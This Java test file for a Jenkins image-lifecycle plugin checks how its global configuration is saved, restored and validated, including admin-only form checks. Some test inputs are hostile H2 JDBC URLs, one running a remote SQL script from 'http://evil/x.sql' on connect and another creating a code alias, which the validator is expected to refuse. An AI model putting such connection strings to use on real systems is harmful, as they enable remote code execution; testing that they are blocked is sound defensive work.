package io.jenkins.plugins.imagelifecycle.plugin.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import hudson.util.FormValidation;
import hudson.util.Secret;
import io.jenkins.plugins.imagelifecycle.config.Environment;
import io.jenkins.plugins.imagelifecycle.config.LifecycleConfig;
import io.jenkins.plugins.imagelifecycle.model.BadInputException;
import io.jenkins.plugins.imagelifecycle.plugin.testing.Grants;
import io.jenkins.plugins.imagelifecycle.plugin.testing.StandInJenkins;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.security.access.AccessDeniedException;

/**
 * The global configuration as JCasC and the form set it: persisted through XStream in JENKINS_HOME and read
 * back by a restarted controller, mapped onto the core's configuration, and validated with clear messages
 * for administrators only.
 */
class ConfigurationTest {
    @TempDir
    Path home;

    private static ImageLifecycleConfiguration configured() {
        ImageLifecycleConfiguration config = ImageLifecycleConfiguration.get();
        config.setCatalogUrl("jdbc:postgresql://db.example.com:5432/images");
        config.setCatalogCredentialsId("catalog-db");
        EnvironmentConfig dev = new EnvironmentConfig("dev");
        EnvironmentConfig staging = new EnvironmentConfig("staging");
        staging.setTarget("{registry}/staging/{name}:{tag}");
        EnvironmentConfig prod = new EnvironmentConfig("prod");
        prod.setProtectedEnvironment(true);
        prod.setTarget("prod.example.com/{repository}:{tag}");
        config.setEnvironments(List.of(dev, staging, prod));
        RegistryConfig internal = new RegistryConfig("registry.example.com");
        internal.setCredentialsId("registry");
        internal.setCaFile("/etc/ssl/private-ca.pem");
        RegistryConfig local = new RegistryConfig("localhost:5000");
        local.setInsecure(true);
        config.setRegistries(List.of(internal, local));
        config.setPackerPath("/opt/packer/bin/packer");
        config.setWebhookSecret(Secret.fromString("s3cret-hook"));
        return config;
    }

    @Test
    void aRestartedControllerReadsBackEverySetting() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            configured();
        }
        Path file = home.resolve(ImageLifecycleConfiguration.class.getName() + ".xml");
        assertThat(file).exists();
        assertThat(Files.readString(file)).contains("jdbc:postgresql://db.example.com:5432/images").contains("staging");

        try (StandInJenkins restarted = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = ImageLifecycleConfiguration.get();
            assertThat(config.getCatalogUrl()).isEqualTo("jdbc:postgresql://db.example.com:5432/images");
            assertThat(config.getCatalogCredentialsId()).isEqualTo("catalog-db");
            assertThat(config.getEnvironments()).extracting(EnvironmentConfig::getName).containsExactly("dev", "staging", "prod");
            assertThat(config.getEnvironments().get(2).isProtectedEnvironment()).isTrue();
            assertThat(config.getRegistries()).extracting(RegistryConfig::getHost, RegistryConfig::getCredentialsId,
                    RegistryConfig::isInsecure).containsExactly(
                    org.assertj.core.groups.Tuple.tuple("registry.example.com", "registry", false),
                    org.assertj.core.groups.Tuple.tuple("localhost:5000", null, true));
            assertThat(config.getPackerPath()).isEqualTo("/opt/packer/bin/packer");
            assertThat(config.getWebhookSecret().getPlainText()).isEqualTo("s3cret-hook");

            LifecycleConfig core = config.toLifecycleConfig();
            assertThat(core.environments()).extracting(Environment::name, Environment::protectedEnv).containsExactly(
                    org.assertj.core.groups.Tuple.tuple("dev", false), org.assertj.core.groups.Tuple.tuple("staging", false),
                    org.assertj.core.groups.Tuple.tuple("prod", true));
            assertThat(core.environment("prod").targetFor(io.jenkins.plugins.imagelifecycle.model.ImageRef.parse(
                    "registry.example.com/team/web:2")).toString()).isEqualTo("prod.example.com/team/web:2");
            assertThat(core.endpoint("localhost:5000").insecure()).isTrue();
            assertThat(core.endpoint("registry.example.com").caFile()).isEqualTo(Path.of("/etc/ssl/private-ca.pem"));
        }
    }

    @Test
    void withNothingConfiguredTheDefaultsApply() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = ImageLifecycleConfiguration.get();
            assertThat(config.getCatalogUrl()).isNull();
            assertThat(config.toLifecycleConfig().environments()).extracting(Environment::name).containsExactly("dev", "qa", "prod");
            assertThat(config.toLifecycleConfig().environment("prod").protectedEnv()).isTrue();
        }
    }

    @Test
    void badEnvironmentsAreRefusedWithTheCoresMessageAndChangeNothing() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = configured();
            assertThatThrownBy(() -> config.setEnvironments(List.of(new EnvironmentConfig("qa"), new EnvironmentConfig("qa"))))
                    .isInstanceOf(BadInputException.class).hasMessage("Environment 'qa' is configured twice");
            assertThatThrownBy(() -> config.setEnvironments(List.of(new EnvironmentConfig("Prod!"))))
                    .isInstanceOf(BadInputException.class).hasMessageContaining("Environment name 'Prod!' is not valid");
            assertThat(config.getEnvironments()).extracting(EnvironmentConfig::getName).containsExactly("dev", "staging", "prod");
        }
    }

    @Test
    void formValidationGivesClearMessages() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = ImageLifecycleConfiguration.get();
            assertThat(config.doCheckCatalogUrl("").kind).isEqualTo(FormValidation.Kind.OK);
            assertThat(config.doCheckCatalogUrl("jdbc:postgresql://db:5432/images").kind).isEqualTo(FormValidation.Kind.OK);
            assertThat(config.doCheckCatalogUrl("mysql://db/images").getMessage())
                    .isEqualTo("Catalog URL 'mysql://db/images' is not supported; expected jdbc:postgresql://host:5432/database, "
                            + "or blank for the embedded catalog");
            assertThat(config.doCheckCatalogUrl("jdbc:postgresql://db/images?password=x").kind).isEqualTo(FormValidation.Kind.ERROR);
            assertThat(config.doCheckCatalogUrl("jdbc:postgresql://app:s3cret@db/images").getMessage())
                    .isEqualTo("Catalog URL carries a password; expected it in credentials (Catalog credentials), not in the URL")
                    .doesNotContain("s3cret");
            assertThat(config.doCheckCatalogUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'").getMessage())
                    .contains("runs SQL on connect (INIT or RUNSCRIPT)");
            // not only the form: configure() and JCasC go through the setter, which refuses and keeps the old value
            config.setCatalogUrl("jdbc:postgresql://db:5432/images");
            assertThatThrownBy(() -> config.setCatalogUrl("jdbc:h2:mem:x;init=create alias x as 'void x(){}'"))
                    .hasMessageContaining("runs SQL on connect");
            assertThatThrownBy(() -> config.setCatalogUrl("jdbc:postgresql://db/images?user=app&password=s3cret"))
                    .hasMessage("Catalog URL carries a password; expected it in credentials (Catalog credentials), not in the URL");
            assertThat(config.getCatalogUrl()).isEqualTo("jdbc:postgresql://db:5432/images");
            config.setCatalogUrl(null);
            assertThat(config.doCheckPackerPath("bin/packer").getMessage()).contains("'bin/packer' is not absolute");

            var environments = new EnvironmentConfig.DescriptorImpl();
            assertThat(environments.doCheckName("prod").kind).isEqualTo(FormValidation.Kind.OK);
            assertThat(environments.doCheckName("Prod!").getMessage()).contains("Environment name 'Prod!' is not valid");
            assertThat(environments.doCheckTarget("{registry}/{env}/{name}:{tag}").getMessage())
                    .isEqualTo("registry.example.com/team/app:1.0 goes to registry.example.com/env/app:1.0");
            assertThat(environments.doCheckTarget("{registry}/{team}/{name}").kind).isEqualTo(FormValidation.Kind.ERROR);

            var registries = new RegistryConfig.DescriptorImpl();
            assertThat(registries.doCheckHost("registry.example.com:5000").kind).isEqualTo(FormValidation.Kind.OK);
            assertThat(registries.doCheckHost("").getMessage()).contains("Registry host is empty");
            assertThat(registries.doCheckHost("https://registry.example.com").kind).isEqualTo(FormValidation.Kind.ERROR);
            assertThat(registries.doCheckCaFile("relative.pem").getMessage()).contains("is not an absolute path");
        }
    }

    @Test
    void formValidationIsForAdministratorsOnly() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = ImageLifecycleConfiguration.get();
            Grants.actAs("bob");
            assertThatThrownBy(() -> config.doCheckCatalogUrl("jdbc:postgresql://db/images"))
                    .isInstanceOf(AccessDeniedException.class).hasMessageContaining("bob");
            assertThatThrownBy(() -> new RegistryConfig.DescriptorImpl().doCheckHost("registry.example.com"))
                    .isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> new EnvironmentConfig.DescriptorImpl().doCheckName("dev"))
                    .isInstanceOf(AccessDeniedException.class);

            jenkins.grants().grant("alice", StandInJenkins.ADMINISTER);
            Grants.actAs("alice");
            assertThat(config.doCheckCatalogUrl("jdbc:postgresql://db/images").kind).isEqualTo(FormValidation.Kind.OK);
        }
    }

    @Test
    void theFormClearsListsLeftEmptyAndReportsRefusedValuesAsFormErrors() throws Exception {
        try (StandInJenkins jenkins = StandInJenkins.start(home)) {
            ImageLifecycleConfiguration config = configured();
            // the form left both repeatable lists empty: their keys are absent from the submitted JSON
            config.configure(binding(config), net.sf.json.JSONObject.fromObject("{\"packerPath\": \"/usr/bin/packer\"}"));
            assertThat(config.getEnvironments()).isEmpty();
            assertThat(config.getRegistries()).isEmpty();
            assertThat(config.getPackerPath()).isEqualTo("/usr/bin/packer");

            ImageLifecycleConfiguration again = configured();
            assertThatThrownBy(() -> again.configure(binding(again),
                    net.sf.json.JSONObject.fromObject("{\"environments\": [{\"name\": \"qa\"}, {\"name\": \"qa\"}]}")))
                    .isInstanceOf(hudson.model.Descriptor.FormException.class).hasMessage("Environment 'qa' is configured twice");
            assertThat(again.getEnvironments()).extracting(EnvironmentConfig::getName).containsExactly("dev", "staging", "prod");
        }
    }

    /** A request whose bindJSON does what Stapler's does for these fields: calls the setter of each key given. */
    private static org.kohsuke.stapler.StaplerRequest2 binding(ImageLifecycleConfiguration config) {
        return (org.kohsuke.stapler.StaplerRequest2) java.lang.reflect.Proxy.newProxyInstance(ConfigurationTest.class.getClassLoader(),
                new Class<?>[] {org.kohsuke.stapler.StaplerRequest2.class}, (proxy, method, args) -> {
                    if (!method.getName().equals("bindJSON")) {
                        throw new UnsupportedOperationException(method.getName());
                    }
                    net.sf.json.JSONObject json = (net.sf.json.JSONObject) args[1];
                    if (json.has("packerPath")) {
                        config.setPackerPath(json.getString("packerPath"));
                    }
                    if (json.has("environments")) {
                        List<EnvironmentConfig> envs = new java.util.ArrayList<>();
                        for (Object e : json.getJSONArray("environments")) {
                            envs.add(new EnvironmentConfig(((net.sf.json.JSONObject) e).getString("name")));
                        }
                        config.setEnvironments(envs);
                    }
                    return null;
                });
    }
}
